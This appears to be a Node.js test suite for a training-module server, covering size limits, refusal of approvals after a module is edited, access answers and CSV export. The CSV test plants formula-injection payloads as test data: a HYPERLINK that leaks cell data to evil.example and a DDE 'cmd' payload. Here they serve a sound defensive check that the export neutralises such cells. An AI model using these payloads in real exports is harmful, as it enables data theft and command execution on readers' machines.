// Modules hold their limits on every path, and what they say reaches only
// those who may see it:
//   * caps (tasks per module, options per question, text lengths) refused
//     with a 422 naming the limit where modules are created, patched and
//     imported; a room never truncates a module that does not fit, it
//     refuses to open it;
//   * an approval is refused when the room's tasks are not the module's any
//     more (the module was edited while the room was open): no completion,
//     also on an instance that rebuilt its copy of the room after the edit;
//   * the CSV export neutralises cells a spreadsheet would run as a formula;
//   * POST /api/modules/{id}/complete answers 404 (like GET) to a user who
//     cannot see the module, without its title.
//
// Every test starts its own server (one redis-server shared), so each can
// run alone and in any order.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { startRedis, startOtjd, connectAs, login } from './harness.mjs';

const MAX_TASKS = 256;
const MAX_OPTIONS = 32;

let redis;
before(async () => { redis = await startRedis(); });
after(async () => { if (redis) await redis.stop(); });

async function withServer(fn) {
  const srv = await startOtjd({ redis: redis.addr });
  try {
    await fn(srv);
  } finally {
    await srv.stopClean();
    srv.cleanup();
  }
}

function sqlOn(srv, query) {
  const out = execFileSync('sqlite3', ['-json', `${srv.dataDir}/otj.db`, query]).toString();
  return out.trim() ? JSON.parse(out) : [];
}

const tokens = new Map();
async function tokenOf(srv, who) {
  const key = `${srv.port}/${who}`;
  if (!tokens.has(key)) {
    const r = await login(srv, who);
    assert.equal(r.status, 200, `login ${who}`);
    tokens.set(key, r.body.token);
  }
  return tokens.get(key);
}

// One API call: {status, body (parsed JSON or null), text, headers}.
async function call(srv, who, method, path, body) {
  const headers = {};
  if (who) headers.authorization = `Bearer ${await tokenOf(srv, who)}`;
  if (body !== undefined) headers['content-type'] = 'application/json';
  const r = await fetch(`${srv.base}${path}`, {
    method, headers, body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await r.text();
  let json = null;
  try { json = JSON.parse(text); } catch { /* CSV or empty */ }
  return { status: r.status, body: json, text, headers: r.headers };
}

const observe = (i) => ({ kind: 'observe', text: `Step ${i + 1} is done right` });
const tasks = (n) => Array.from({ length: n }, (_, i) => observe(i));

async function moduleByTitle(srv, title) {
  const all = await call(srv, 'admin', 'GET', '/api/admin/modules');
  assert.equal(all.status, 200);
  return all.body.items.find((m) => m.title === title);
}

// A 422 that names the limit and its maximum, and says it in words.
function assertLimit(res, limit, max) {
  assert.equal(res.status, 422, `expected 422 for ${limit}: ${res.status} ${res.text.slice(0, 300)}`);
  assert.equal(res.body.limit, limit, res.text);
  assert.equal(res.body.max, max, res.text);
  assert.match(res.body.message, new RegExp(`\\b${max}\\b`), res.text);
}

// --- caps where modules enter -------------------------------------------------

test('a module of 257 tasks is refused with 422 on create, patch and import; 256 fit', async () => {
  await withServer(async (srv) => {
    const created = await call(srv, 'admin', 'POST', '/api/admin/modules',
      { title: 'Too long a drill', type: 'quiz', otj: true, tasks: tasks(MAX_TASKS + 1) });
    assertLimit(created, 'tasks_per_module', MAX_TASKS);
    assert.equal(await moduleByTitle(srv, 'Too long a drill'), undefined, 'nothing was created');

    const hand = await moduleByTitle(srv, 'Hand hygiene');
    const patched = await call(srv, 'admin', 'PATCH', `/api/admin/modules/${hand.id}`,
      { tasks: tasks(MAX_TASKS + 1) });
    assertLimit(patched, 'tasks_per_module', MAX_TASKS);
    assert.equal((await moduleByTitle(srv, 'Hand hygiene')).tasks.length, 4, 'the module is unchanged');

    const imported = await call(srv, 'admin', 'POST', '/api/admin/import', {
      departments: [{ name: 'Bakery' }],
      modules: [{ title: 'Imported drill', type: 'quiz', otj: true, tasks: tasks(MAX_TASKS + 1) }],
    });
    assertLimit(imported, 'tasks_per_module', MAX_TASKS);
    assert.equal(imported.body.where, 'modules[0].tasks', imported.text);
    assert.equal(await moduleByTitle(srv, 'Imported drill'), undefined, 'the import changed nothing');
    assert.equal(sqlOn(srv, "SELECT count(*) AS n FROM departments WHERE name='Bakery'")[0].n, 0);

    // exactly at the cap is fine, on every path
    const full = await call(srv, 'admin', 'POST', '/api/admin/modules',
      { title: 'Long drill', type: 'quiz', otj: true, tasks: tasks(MAX_TASKS) });
    assert.equal(full.status, 201, full.text);
    assert.equal(full.body.tasks.length, MAX_TASKS);
    const imp = await call(srv, 'admin', 'POST', '/api/admin/import', {
      modules: [{ title: 'Imported long drill', type: 'quiz', tasks: tasks(MAX_TASKS) }],
    });
    assert.equal(imp.status, 200, imp.text);
  });
});

test('options per question and text lengths are capped with 422 naming the limit', async () => {
  await withServer(async (srv) => {
    const opts = (n, len = 8) => Array.from({ length: n }, (_, i) => `${i}`.padEnd(len, 'x'));
    const q = (extra) => ({ title: 'Quiz with limits', type: 'quiz', tasks: [{ kind: 'question', ...extra }] });

    assertLimit(await call(srv, 'admin', 'POST', '/api/admin/modules',
      q({ text: 'Pick one', options: opts(MAX_OPTIONS + 1) })), 'options_per_question', MAX_OPTIONS);
    const longText = await call(srv, 'admin', 'POST', '/api/admin/modules', q({ text: 'w'.repeat(2001) }));
    assert.equal(longText.status, 422, longText.text);
    assert.equal(longText.body.limit, 'task_text', longText.text);
    const longOption = await call(srv, 'admin', 'POST', '/api/admin/modules',
      q({ text: 'Pick one', options: ['short', 'o'.repeat(201)] }));
    assert.equal(longOption.status, 422, longOption.text);
    assert.equal(longOption.body.limit, 'option_text', longOption.text);
    assert.equal(await moduleByTitle(srv, 'Quiz with limits'), undefined);

    const hand = await moduleByTitle(srv, 'Hand hygiene');
    const patched = await call(srv, 'admin', 'PATCH', `/api/admin/modules/${hand.id}`,
      { tasks: [{ kind: 'question', text: 'Pick one', options: opts(MAX_OPTIONS + 1) }] });
    assertLimit(patched, 'options_per_question', MAX_OPTIONS);
    assert.equal((await moduleByTitle(srv, 'Hand hygiene')).tasks.length, 4);

    const imported = await call(srv, 'admin', 'POST', '/api/admin/import', {
      modules: [{ title: 'Imported quiz', type: 'quiz',
        tasks: [observe(0), { kind: 'question', text: 'Pick one', options: opts(MAX_OPTIONS + 1) }] }],
    });
    assertLimit(imported, 'options_per_question', MAX_OPTIONS);
    assert.equal(imported.body.where, 'modules[0].tasks[1].options', imported.text);

    // at the caps: accepted
    const ok = await call(srv, 'admin', 'POST', '/api/admin/modules',
      q({ text: 'w'.repeat(2000), options: opts(MAX_OPTIONS, 200) }));
    assert.equal(ok.status, 201, ok.text);
  });
});

// --- rooms and approvals --------------------------------------------------------

async function ask(c, msg) {
  const rid = (c.rid = (c.rid || 100) + 1);
  c.send({ ...msg, rid });
  for (;;) {
    const m = await c.next();
    if (m.rid === rid && m.t !== 'ev') return m;
  }
}

// rita opens a Hand hygiene room for lea; lea answers, rita passes every
// observe task. Returns {rita, lea, room, HH, leaId}.
async function drillReady(srv) {
  const HH = sqlOn(srv, "SELECT id FROM modules WHERE title='Hand hygiene'")[0].id;
  const leaId = sqlOn(srv, "SELECT id FROM users WHERE login='lea'")[0].id;
  const rita = await connectAs(srv, 'rita');
  const lea = await connectAs(srv, 'lea');
  const snap = await ask(rita, { t: 'open', module: HH, learners: [leaId] });
  assert.equal(snap.t, 'snapshot', JSON.stringify(snap));
  const room = snap.room;
  assert.equal((await ask(lea, { t: 'join', code: snap.code })).t, 'snapshot');
  assert.equal((await ask(lea, { t: 'answer', room, task: 0, value: 1, key: 'k0' })).t, 'ack');
  for (const task of [1, 2, 3]) {
    assert.equal((await ask(rita, { t: 'step', room, task })).t, 'ok');
    const r = await ask(rita, { t: 'mark', room, learner: leaId, task, result: 'pass' });
    assert.equal(r.t, 'ok', JSON.stringify(r));
  }
  return { rita, lea, room, HH, leaId, snap };
}

const completions = (srv, user, mod) =>
  sqlOn(srv, `SELECT count(*) AS n FROM completions WHERE user_id=${user} AND module_id=${mod}`)[0].n;

test('a module edited while its room is open: the approval is refused (conflict), no completion', async () => {
  await withServer(async (srv) => {
    const { rita, lea, room, HH, leaId } = await drillReady(srv);
    // the admin adds a fifth task, an observe task the room never showed
    const hand = (await call(srv, 'admin', 'GET', `/api/admin/modules/${HH}`)).body;
    const edited = await call(srv, 'admin', 'PATCH', `/api/admin/modules/${HH}`,
      { tasks: [...hand.tasks, { kind: 'observe', text: 'Turns the tap off with the towel' }] });
    assert.equal(edited.status, 200, edited.text);

    const res = await ask(rita, { t: 'approve', room, decisions: [{ learner: leaId, approved: true }] });
    assert.equal(res.t, 'err', `the approval must be refused: ${JSON.stringify(res)}`);
    assert.equal(res.code, 'conflict');
    assert.match(res.msg, /changed/);
    assert.equal(completions(srv, leaId, HH), 0, 'no completion was written');

    // a new room shows the module as it is now, and approves once all is passed
    const snap2 = await ask(rita, { t: 'open', module: HH, learners: [leaId] });
    assert.equal(snap2.t, 'snapshot', JSON.stringify(snap2));
    assert.equal(snap2.module.tasks.length, 5);
    assert.equal((await ask(lea, { t: 'join', code: snap2.code })).t, 'snapshot');
    for (const task of [1, 2, 3, 4]) {
      const r = await ask(rita, { t: 'mark', room: snap2.room, learner: leaId, task, result: 'pass' });
      assert.equal(r.t, 'ok', JSON.stringify(r));
    }
    const ok = await ask(rita, { t: 'approve', room: snap2.room, decisions: [{ learner: leaId, approved: true }] });
    assert.equal(ok.t, 'approved', JSON.stringify(ok));
    assert.equal(ok.results[0].status, 'approved', JSON.stringify(ok));
    assert.equal(completions(srv, leaId, HH), 1);
    rita.close();
    lea.close();
  });
});

test('a task reworded while the room is open (same number of tasks): approval refused', async () => {
  await withServer(async (srv) => {
    const { rita, lea, room, HH, leaId } = await drillReady(srv);
    const hand = (await call(srv, 'admin', 'GET', `/api/admin/modules/${HH}`)).body;
    const tasks = hand.tasks.map((t) => ({ ...t }));
    tasks[2] = { kind: 'observe', text: 'Rubs for at least 40 seconds' };
    const edited = await call(srv, 'admin', 'PATCH', `/api/admin/modules/${HH}`, { tasks });
    assert.equal(edited.status, 200, edited.text);

    const res = await ask(rita, { t: 'approve', room, decisions: [{ learner: leaId, approved: true }] });
    assert.equal(res.t, 'err', `the approval must be refused: ${JSON.stringify(res)}`);
    assert.equal(res.code, 'conflict');
    assert.equal(completions(srv, leaId, HH), 0, 'no completion was written');
    assert.equal(sqlOn(srv, "SELECT count(*) AS n FROM audit WHERE action='otj.approved'")[0].n, 0);
    rita.close();
    lea.close();
  });
});

test('an unedited module approves as before', async () => {
  await withServer(async (srv) => {
    const { rita, lea, room, HH, leaId } = await drillReady(srv);
    const ok = await ask(rita, { t: 'approve', room, decisions: [{ learner: leaId, approved: true }] });
    assert.equal(ok.t, 'approved', JSON.stringify(ok));
    assert.equal(ok.results[0].status, 'approved', JSON.stringify(ok));
    assert.ok(ok.results[0].completion > 0);
    assert.equal(completions(srv, leaId, HH), 1);
    rita.close();
    lea.close();
  });
});

// Two instances on one Redis and one database: A opens the room, B never
// held it and builds its copy of the room from what Redis and SQLite say.
async function withTwoServers(fn) {
  const A = await startOtjd({ redis: redis.addr });
  let B;
  try {
    B = await startOtjd({ redis: redis.addr, dataDir: A.dataDir, demo: false });
    await fn(A, B);
  } finally {
    if (B) await B.stopClean();
    await A.stopClean();
    A.cleanup();
  }
}

// rita opens a Hand hygiene room for lea on A, lea joins and answers, rita
// passes tasks 1 and 2; then `between` runs (the admin's edit, or nothing),
// rita's connection moves to B, she passes task 3 there and approves.
async function approveOnOtherInstance(A, B, between) {
  const HH = sqlOn(A, "SELECT id FROM modules WHERE title='Hand hygiene'")[0].id;
  const leaId = sqlOn(A, "SELECT id FROM users WHERE login='lea'")[0].id;
  const ritaA = await connectAs(A, 'rita');
  const lea = await connectAs(A, 'lea');
  const snap = await ask(ritaA, { t: 'open', module: HH, learners: [leaId] });
  assert.equal(snap.t, 'snapshot', JSON.stringify(snap));
  const room = snap.room;
  assert.equal((await ask(lea, { t: 'join', code: snap.code })).t, 'snapshot');
  assert.equal((await ask(lea, { t: 'answer', room, task: 0, value: 1, key: 'k0' })).t, 'ack');
  for (const task of [1, 2]) {
    assert.equal((await ask(ritaA, { t: 'step', room, task })).t, 'ok');
    const r = await ask(ritaA, { t: 'mark', room, learner: leaId, task, result: 'pass' });
    assert.equal(r.t, 'ok', JSON.stringify(r));
  }
  await between(HH);
  await ritaA.close();

  const ritaB = await connectAs(B, 'rita');
  const again = await ask(ritaB, { t: 'join', room });
  assert.equal(again.t, 'snapshot', JSON.stringify(again));
  assert.equal((await ask(ritaB, { t: 'step', room, task: 3 })).t, 'ok');
  const m = await ask(ritaB, { t: 'mark', room, learner: leaId, task: 3, result: 'pass' });
  assert.equal(m.t, 'ok', JSON.stringify(m));
  const res = await ask(ritaB, { t: 'approve', room, decisions: [{ learner: leaId, approved: true }] });
  ritaB.close();
  lea.close();
  return { res, HH, leaId };
}

test('a task reworded while the room is open is caught on an instance that rebuilt the room', async () => {
  await withTwoServers(async (A, B) => {
    const { res, HH, leaId } = await approveOnOtherInstance(A, B, async (HH) => {
      const hand = (await call(A, 'admin', 'GET', `/api/admin/modules/${HH}`)).body;
      const tasks = hand.tasks.map((t) => ({ ...t }));
      tasks[3] = { kind: 'observe', text: 'Dries the hands with a fresh towel' };
      const edited = await call(A, 'admin', 'PATCH', `/api/admin/modules/${HH}`, { tasks });
      assert.equal(edited.status, 200, edited.text);
      assert.equal(edited.body.tasks.length, hand.tasks.length, 'the same number of tasks');
    });
    assert.equal(res.t, 'err', `the approval must be refused: ${JSON.stringify(res)}`);
    assert.equal(res.code, 'conflict');
    assert.match(res.msg, /changed/);
    assert.equal(completions(A, leaId, HH), 0, 'no completion was written');
    assert.equal(sqlOn(A, "SELECT count(*) AS n FROM audit WHERE action='otj.approved'")[0].n, 0);
  });
});

test('an unedited module approves on an instance that rebuilt the room', async () => {
  await withTwoServers(async (A, B) => {
    const { res, HH, leaId } = await approveOnOtherInstance(A, B, async () => {});
    assert.equal(res.t, 'approved', JSON.stringify(res));
    assert.equal(res.results[0].status, 'approved', JSON.stringify(res));
    assert.ok(res.results[0].completion > 0);
    assert.equal(completions(A, leaId, HH), 1);
  });
});

test('a stored module of 257 tasks is refused when a room opens, never truncated', async () => {
  await withServer(async (srv) => {
    // a module stored before the caps (written straight into the database)
    const HH = sqlOn(srv, "SELECT id FROM modules WHERE title='Hand hygiene'")[0].id;
    const leaId = sqlOn(srv, "SELECT id FROM users WHERE login='lea'")[0].id;
    const values = Array.from({ length: MAX_TASKS + 1 - 4 },
      (_, i) => `(${HH}, ${4 + i}, 'observe', 'Extra step ${i}')`).join(',');
    sqlOn(srv, `INSERT INTO tasks(module_id, position, kind, text) VALUES ${values}`);

    const rita = await connectAs(srv, 'rita');
    const res = await ask(rita, { t: 'open', module: HH, learners: [leaId] });
    assert.equal(res.t, 'err', `a room of 257 tasks must not open: ${JSON.stringify(res).slice(0, 200)}`);
    assert.equal(res.code, 'too_large');
    assert.match(res.msg, /256/);
    assert.equal(sqlOn(srv, `SELECT count(*) AS n FROM otj_rooms WHERE module_id=${HH}`)[0].n, 0);
    rita.close();
  });
});

// --- CSV export -------------------------------------------------------------------

// RFC 4180 reader: rows of fields; checks CRLF line ends.
function parseCsv(text) {
  const rows = [];
  let row = [], field = '', i = 0, quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"') { quoted = true; i++; continue; }
    if (c === ',') { row.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    assert.notEqual(c, '\n', 'a bare LF ends a line: CSV lines must end with CRLF');
    field += c; i++;
  }
  assert.equal(field, '', 'the last line ends with CRLF');
  return rows;
}

test('CSV cells that a spreadsheet would run as a formula are neutralised', async () => {
  await withServer(async (srv) => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
    const food = await moduleByTitle(srv, 'Food safety basics'); // lea, leo, lars completed it
    assert.equal((await call(srv, 'admin', 'PATCH', `/api/admin/modules/${food.id}`, { title: evil })).status, 200);
    const users = (await call(srv, 'admin', 'GET', '/api/admin/users')).body.items;
    const byLogin = Object.fromEntries(users.map((u) => [u.login, u]));
    const names = { lea: '@SUM(1+1)*cmd|" /C calc"!A0', leo: '+41 22 555 0100', lars: '-2+3' };
    for (const [who, name] of Object.entries(names)) {
      const r = await call(srv, 'admin', 'PATCH', `/api/admin/users/${byLogin[who].id}`, { name });
      assert.equal(r.status, 200, r.text);
    }

    const res = await call(srv, 'admin', 'GET', '/api/completions?format=csv');
    assert.equal(res.status, 200);
    const rows = parseCsv(res.text);
    const head = rows[0];
    const col = (name) => head.indexOf(name);
    const body = rows.slice(1);
    assert.equal(body.length, 7, res.text); // lea, leo, lars; kai and ida twice (Hand hygiene too)
    for (const row of body) {
      for (const cell of row)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
      // the text is kept, behind one quote
      // (the demo's Hand hygiene approvals keep their module's plain title)
      if (row[col('module')] !== 'Hand hygiene') assert.equal(row[col('module')], `'${evil}`);
      assert.ok(['Kitchen', 'Cold kitchen'].includes(row[col('department')]), 'an ordinary cell is unchanged');
      assert.equal(row[col('path')], 'Kitchen starter', 'an ordinary cell is unchanged');
    }
    const nameOf = Object.fromEntries(body.map((r) => [r[col('login')], r[col('name')]]));
    for (const [who, name] of Object.entries(names)) assert.equal(nameOf[who], `'${name}`);
    // the raw bytes: the neutralised cell is quoted (RFC 4180 with the quote inside)
    assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`), res.text);
    // ids and times stay as they are
    for (const row of body) {
      assert.match(row[col('id')], /^\d+$/);
      assert.match(row[col('completed_at')], /^\d{4}-\d\d-\d\dT/);
    }
  });
});

// --- visibility of a module to the one completing it ------------------------------

test('POST /api/modules/{id}/complete answers 404 like GET to a user who cannot see the module', async () => {
  await withServer(async (srv) => {
    const hand = await moduleByTitle(srv, 'Hand hygiene');   // Kitchen starter: not omar's
    const food = await moduleByTitle(srv, 'Food safety basics');
    for (const m of [hand, food]) {
      const seen = await call(srv, 'omar', 'GET', `/api/modules/${m.id}`);
      assert.equal(seen.status, 404, seen.text);
      const done = await call(srv, 'omar', 'POST', `/api/modules/${m.id}/complete`, { answers: [] });
      assert.equal(done.status, 404, done.text);
      assert.equal(done.body.error, seen.body.error);
      assert.equal(done.body.message, seen.body.message);
      assert.ok(!done.text.includes(m.title), `the title leaked: ${done.text}`);
    }
    // no module at all: the same answer
    const none = await call(srv, 'omar', 'POST', '/api/modules/999999/complete', {});
    assert.equal(none.status, 404);
    // someone who sees it still gets the rule answers (lea: OTJ, needs a responsible)
    const lea = await call(srv, 'lea', 'POST', `/api/modules/${hand.id}/complete`, {});
    assert.equal(lea.status, 409, lea.text);
    assert.equal(lea.body.error, 'otj_required');
    // nothing new: only the demo's two approvals (kai, ida) by rita
    assert.equal(sqlOn(srv, `SELECT count(*) AS n FROM completions WHERE module_id=${hand.id}`
      + ' AND approved_by IS NULL')[0].n, 0);
    assert.equal(sqlOn(srv, `SELECT count(*) AS n FROM completions WHERE module_id=${hand.id}`)[0].n, 2);
  });
});
